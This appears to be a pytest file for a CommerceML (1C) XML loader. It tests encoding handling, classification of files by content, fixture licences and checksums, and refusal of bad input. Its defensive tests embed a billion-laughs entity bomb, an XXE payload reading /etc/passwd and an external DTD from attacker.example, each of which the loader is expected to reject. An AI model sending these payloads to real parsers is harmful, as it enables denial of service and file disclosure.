"""Loading untrusted CommerceML bytes (pitfalls 1, 2 and 8) and telling files apart by their content."""

from __future__ import annotations

import hashlib
from typing import Any, cast

import pytest

from oms_erp_bridge.cml import DEFAULT_MAX_BYTES, CmlError, kind_of, load, parse_orders
from tests.unit.erp_bridge.helpers import (
    CML31_CONTAINERS,
    FIXTURES,
    HANDWRITTEN,
    HANDWRITTEN_KINDS,
    SAMPLE_KINDS,
    SAMPLE_REPOS,
    UNLICENSED_SAMPLES,
    cml,
    handwritten_bytes,
    handwritten_root,
    order_xml,
    sample_bytes,
    sample_path,
    sample_root,
)

NAMESPACES = ["", "urn:1C.ru:commerceml_2", "urn:1C.ru:commerceml_210", "urn:1C.ru:commerceml_3"]

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<КоммерческаяИнформация><Документ><Ид>&lol9;</Ид></Документ></КоммерческаяИнформация>""".encode()

EXTERNAL_ENTITY = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE КоммерческаяИнформация [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<КоммерческаяИнформация><Документ><Ид>&secret;</Ид></Документ></КоммерческаяИнформация>""".encode()

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>"""


@pytest.mark.parametrize(("number", "kind"), sorted(SAMPLE_KINDS.items()))
def test_every_sample_loads_and_is_classified(number: str, kind: str) -> None:
    """R-ERP-1, R-ERP-2: every real file (orders, catalog, offers, rests) loads and is recognised."""
    assert kind_of(sample_root(number)) == kind


@pytest.mark.parametrize(("name", "kind"), sorted(HANDWRITTEN_KINDS.items()))
def test_every_handwritten_document_loads_and_is_classified(name: str, kind: str) -> None:
    """R-ERP-1: our own documents for the layouts we may not copy load and are recognised like the samples."""
    assert kind_of(handwritten_root(name)) == kind


def test_every_fixture_file_is_covered() -> None:
    """Every file under tests/fixtures/erp is a listed sample copy, a listed hand-written document or a note."""
    files = {path.relative_to(FIXTURES).as_posix() for path in FIXTURES.rglob("*") if path.is_file()}
    copies = {sample_path(number).name for number in SAMPLE_KINDS}
    ours = {f"{HANDWRITTEN.name}/{name}" for name in HANDWRITTEN_KINDS}
    assert files == copies | ours | {"README.md", "SOURCES.md", "LICENSES.md"}
    assert set(SAMPLE_KINDS) == set(SAMPLE_REPOS)


def test_samples_without_a_licence_are_not_copied() -> None:
    """Samples 02 (`irpsv/commerceml`) and 05 (`cscart/docs`) have no licence: they must not be in the repository."""
    for number in UNLICENSED_SAMPLES:
        assert not list(FIXTURES.rglob(f"{number}_*")), number


def test_every_copied_sample_has_its_licence_notice() -> None:
    """Each source repository of a copied sample is named in LICENSES.md with its MIT notice."""
    notices = (FIXTURES / "LICENSES.md").read_text(encoding="utf-8")
    assert notices.count("Permission is hereby granted, free of charge") >= 3
    for number, repo in SAMPLE_REPOS.items():
        assert f"`{repo}`" in notices, (number, repo)


# SHA-256 of each copied file as published in ../shared/erp/samples (checked against that folder when this was
# written): the copies stay byte-for-byte what their sources published.
PUBLISHED_SHA256 = {
    "01_from1c_orders_cml209_1cdemo_ArgentCrusade.xml": (
        "d364c5de591b1e86594d15c90c096565fecf89ca3e8797c400958dda5379e944"
    ),
    "03_from1c_to_official_cp1251_cml203.xml": "feff064e5bbbdf0ee736d95cc66e9d08ea3526df000ceae7fe6da4bfbdae55b5",
    "04_tosite_from_official_cp1251_cml203.xml": "6f36e2b5b069edda99156329e8056e73b48d824d0ec67dbab862ece0147edf05",
    "06_site_query_response_bitrix_cp1251_cml205_dobromyslov.xml": (
        "4c9290fb1d337ffa65588e5e22cc6cb5549723211982b2ce57bc8e7db90bd55b"
    ),
    "07a_import_cml207_1cdemo_carono.xml": "419c4dc8d839b94dd0523724d59832c1908ad2dcb2d5f3229373d6915c7df6cd",
    "07b_offers_cml207_1cdemo_carono.xml": "bcf52e2fa307133a935ec12530b07ccfb7f22d9b076d511882d40aba9ee0b3bd",
    "08_import0_1_cml207_dobromyslov.xml": "81ac41705587a196981f9549a9e1e629b812109f2f45cd6b6fcbd9b0f7cc86c1",
    "09_offers0_1_cml207_dobromyslov.xml": "0af7454b479f6c818233ebc4ab89c568844f7b23eda3f694a308910e13625354",
    "10_rests_cml31_bitrixmodule_ArgentCrusade.xml": "1c4c19909a9895593394730efb17c9ac689dac0324d004db934ead01705047d0",
    "SOURCES.md": "23cc55a75ef6533bc689a9a9e93123b861f2fdefb0d77eeed8a39515a84785d1",
}


def test_fixtures_are_byte_copies_of_the_published_samples() -> None:
    copied = sorted([*(p.name for p in FIXTURES.glob("*.xml")), "SOURCES.md"])
    assert copied == sorted(PUBLISHED_SHA256)
    for name in copied:
        assert hashlib.sha256((FIXTURES / name).read_bytes()).hexdigest() == PUBLISHED_SHA256[name], name


def test_pitfall_1_windows_1251_is_decoded_as_its_declaration_says() -> None:
    """R-ERP-1: sample 03 is windows-1251 without a BOM; Cyrillic comes out right."""
    assert sample_bytes("03").startswith(b'<?xml version="1.0" encoding="windows-1251"?>')
    (order,) = parse_orders(sample_root("03"))
    assert order.counterparties[0].name == "Петр Петров"
    assert order.status_text == "[F] Доставлен"


def test_pitfall_1_utf8_with_and_without_bom() -> None:
    """R-ERP-1: our CML 3.1 document starts with a UTF-8 BOM, sample 01 has none; both read the same way."""
    with_bom = handwritten_bytes(CML31_CONTAINERS)
    assert with_bom.startswith(b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>')
    assert not sample_bytes("01").startswith(b"\xef\xbb\xbf")
    first = parse_orders(load(with_bom))[0]
    assert first.operation == "Заказ товара" and first.lines[0].name == "Термокружка «Полярная» 450 мл, синяя"
    assert parse_orders(sample_root("01"))[0].operation == "Заказ товара"


@pytest.mark.parametrize(("encoding", "bom"), [("windows-1251", False), ("UTF-8", True), ("UTF-8", False)])
def test_pitfall_1_the_same_document_in_every_encoding_reads_the_same(encoding: str, bom: bool) -> None:
    """R-ERP-1: windows-1251, UTF-8 with BOM and UTF-8 without BOM give the same text."""
    data = cml(order_xml("<Комментарий>Привет, ёжик №1</Комментарий>"), encoding=encoding)
    data = b"\xef\xbb\xbf" + data if bom else data
    assert parse_orders(load(data))[0].comment == "Привет, ёжик №1"


def test_pitfall_1_windows_1251_bytes_declared_as_utf8_are_refused() -> None:
    """R-ERP-6: never guess — a file whose bytes do not match its declaration is refused with a reason."""
    data = cml(order_xml("<Комментарий>Привет</Комментарий>")).decode().encode("cp1251")
    with pytest.raises(CmlError, match="not well-formed"):
        load(data)


def test_pitfall_1_a_bom_contradicting_the_declaration_is_refused() -> None:
    """R-ERP-6: expat would follow the declaration and garble UTF-8 text silently."""
    data = b"\xef\xbb\xbf" + '<?xml version="1.0" encoding="windows-1251"?><КоммерческаяИнформация/>'.encode()
    with pytest.raises(CmlError, match="byte order mark"):
        load(data)


def test_pitfall_1_decoded_text_is_refused() -> None:
    with pytest.raises(CmlError, match="raw bytes"):
        load(cast(Any, sample_bytes("01").decode()))


@pytest.mark.parametrize("number", sorted(SAMPLE_KINDS))
def test_pitfall_2_the_kind_is_decided_by_root_content_not_by_file_name(number: str) -> None:
    """R-ERP-1: names vary (import0_1.xml, orders-<guid>.xml, rests___…); only the content counts."""
    renamed = sample_path(number).read_bytes()  # the same bytes, whatever name they were uploaded under
    assert kind_of(load(renamed)) == SAMPLE_KINDS[number]


@pytest.mark.parametrize("namespace", NAMESPACES)
@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (order_xml(), "orders"),
        (f"<Контейнер>{order_xml()}</Контейнер>", "orders"),
        ("<Классификатор><Ид>c</Ид></Классификатор><Каталог><Товары/></Каталог>", "catalog"),
        ("<Классификатор><Группы><Группа><Ид>g</Ид></Группа></Группы></Классификатор>", "catalog"),
        ("<Классификатор/><ПакетПредложений><Предложения><Предложение><Цены/></Предложение>"
         "</Предложения></ПакетПредложений>", "offers"),
        ("<ПакетПредложений><Предложения><Предложение><Остатки/></Предложение></Предложения>"
         "</ПакетПредложений>", "rests"),
        ("", "unknown"),
    ],
)  # fmt: skip
def test_pitfall_2_kind_with_any_default_namespace(namespace: str, body: str, kind: str) -> None:
    """R-ERP-1: no namespace, commerceml_2, commerceml_210 and commerceml_3 are matched by local names."""
    assert kind_of(load(cml(body, namespace=namespace))) == kind


def test_pitfall_8_billion_laughs_is_refused() -> None:
    """R-ERP-6: entity expansion is refused before it can eat the memory."""
    with pytest.raises(CmlError, match="DTD, entities or external references"):
        load(BILLION_LAUGHS)


def test_pitfall_8_an_external_entity_is_refused() -> None:
    """R-ERP-6: no file of ours can be read into a document (XXE)."""
    with pytest.raises(CmlError, match="DTD, entities or external references"):
        load(EXTERNAL_ENTITY)


def test_pitfall_8_an_external_dtd_is_refused() -> None:
    with pytest.raises(CmlError, match="DTD, entities or external references"):
        load(EXTERNAL_DTD)


def test_pitfall_8_size_is_capped_before_parsing() -> None:
    """R-ERP-6: a body bigger than the cap is refused with its size; the default cap is 50 MiB."""
    assert DEFAULT_MAX_BYTES == 50 * 1024 * 1024
    data = sample_bytes("01")
    with pytest.raises(CmlError, match=f"{len(data)} bytes, more than the 1000 bytes allowed"):
        load(data, max_bytes=1000)
    assert kind_of(load(data, max_bytes=len(data))) == "orders"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b"  \n", "empty"),
        (b"PK\x03\x04 not xml at all", "not well-formed"),
        (b"<a><b></a>", "not well-formed"),
        (b'<?xml version="1.0" encoding="no-such-charset"?><a/>', "encoding"),
        (b"<Catalog/>", "root element is <Catalog>"),
        (b'<?xml version="1.0"?><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"/>', "root element"),
    ],
)
def test_every_other_failure_is_one_readable_cml_error(data: bytes, reason: str) -> None:
    """R-ERP-6: 1C is answered `failure` with a reason a person can read."""
    with pytest.raises(CmlError, match=reason) as caught:
        load(data)
    assert isinstance(caught.value, ValueError)
